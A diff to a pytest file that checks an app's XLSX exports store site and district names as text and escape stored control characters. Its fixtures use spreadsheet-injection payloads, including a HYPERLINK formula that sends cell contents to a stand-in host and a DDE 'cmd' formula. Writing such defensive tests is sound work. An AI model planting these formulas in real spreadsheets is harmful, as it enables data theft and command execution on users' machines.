@@ -25,7 +25,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+cmd|' /C calc'!A
 @pytest.fixture
 def manager(client, demo_tree, make_user, make_site):
     for name in FORMULAS:
-        make_site(demo_tree["99101"], name=name, kind="pond")
+        site = make_site(demo_tree["99101"], name="Ao", kind="pond")
+        type(site).objects.filter(pk=site.pk).update(name=name)  # a tab is refused at input now
     district = demo_tree["992"]  # a row of the province's report
     district.name = "=2*3"
     district.save(update_fields=["name"])
@@ -113,3 +114,33 @@ def test_campaign_board_xlsx_types_every_name_as_text(manager, demo_tree):
     assert cells.get(commune.name) == "s"
     heading = sheet["A1"].value
     assert heading.startswith("=1+1 · ") and cells[heading] == "s"
+
+
+# Stored before input refused control characters (F13): one such name made every XLSX
+# covering it answer 500. The cell holds OOXML's escape, which Excel reads back as the
+# character; the record is unchanged.
+STORED_CONTROL = "Giếng\x0b\x01\x1b[31m ctrl _x0041_"
+WRITTEN_CONTROL = "Giếng_x000B__x0001__x001B_[31m ctrl _x005F_x0041_"
+
+
+@pytest.fixture
+def stored_control(manager, demo_tree, make_site):
+    site = make_site(demo_tree["99101"], name="Giếng")
+    type(site).objects.filter(pk=site.pk).update(name=STORED_CONTROL)
+    type(demo_tree["992"]).objects.filter(pk=demo_tree["992"].pk).update(name=STORED_CONTROL)
+    return site
+
+
+@pytest.mark.parametrize(
+    ("url", "params"),
+    [
+        (reverse("site-export", args=["xlsx"]), {}),
+        (reverse("report-file", args=["xlsx"]), {"kind": "half", "year": 2025, "half": 1}),
+    ],
+)
+def test_xlsx_writes_stored_control_characters_as_excel_reads_them(manager, stored_control, url, params):
+    sheet = xlsx_sheet(body(manager.get(url, params)))
+    cells = {cell.value for row in sheet.iter_rows() for cell in row}
+    assert WRITTEN_CONTROL in cells
+    stored_control.refresh_from_db()
+    assert stored_control.name == STORED_CONTROL
